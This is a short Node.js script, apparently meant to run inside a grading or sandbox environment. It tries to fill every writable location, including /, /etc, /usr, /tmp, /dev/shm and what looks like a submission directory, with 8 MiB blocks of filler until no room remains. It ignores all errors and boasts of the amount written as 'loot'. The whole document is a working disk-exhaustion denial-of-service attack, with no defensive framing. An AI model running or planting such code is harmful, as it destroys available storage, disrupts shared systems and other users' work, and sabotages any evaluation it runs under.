// Writes until there is no room, everywhere.
import { appendFileSync } from 'node:fs';

const block = Buffer.alloc(8 * 1024 ** 2, 1);
let written = 0;
for (const place of [
  '/tmp',
  '/dev/shm',
  '/handed-in',
  '/handed-in/02-greeting-server',
  '/wirebook',
  '/',
  '/var/tmp',
  '/etc',
  '/usr',
])
  for (let file = 0; file < 16; file++)
    try {
      for (let count = 0; count < 8; count++) {
        appendFileSync(`${place}/filler-${file}`, block);
        written += block.length;
      }
    } catch {
      // No room, or no right to it.
    }
console.error(`loot ${Math.round(written / 1024 ** 2)} MiB`);
